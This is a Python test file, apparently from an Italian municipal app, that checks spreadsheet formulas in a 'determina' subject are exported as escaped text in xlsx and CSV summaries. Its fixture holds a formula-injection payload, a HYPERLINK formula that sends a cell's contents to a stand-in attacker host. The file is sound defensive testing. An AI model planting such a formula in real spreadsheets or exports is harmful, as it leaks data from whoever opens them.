"""A determina's subject that looks like a formula is text in the summary's xlsx and CSV."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from services.determine.services import determina_create
from tests.conftest import client_for

LINK = '=HYPERLINK("https://evil.example/?d="&A2;"Apri")'


def test_a_formula_in_the_subject_is_text_in_xlsx_and_csv(cast, a):
    determina_create(actor=a.amministrativo, data_adozione=date(2025, 6, 1), oggetto=LINK,
                     capitolo="1", importo_impegnato=Decimal("10.00"))
    c = client_for(cast.by_role["dirigente"], cast.comune_a.ente)
    wb = load_workbook(io.BytesIO(c.get("/determine/riepilogo/?formato=xlsx").content))
    celle = [row[3] for row in wb["Per determina"].iter_rows(min_row=2)]
    oggetto = next(cella for cella in celle if "HYPERLINK" in str(cella.value))
    assert oggetto.data_type == "s"
    assert oggetto.value == "'" + LINK
    testo = c.get("/determine/riepilogo/?formato=csv").content.decode("utf-8-sig")
    campi = [campo for riga in csv.reader(io.StringIO(testo), delimiter=";") for campo in riga]
    assert "'" + LINK in campi
    assert LINK not in campi
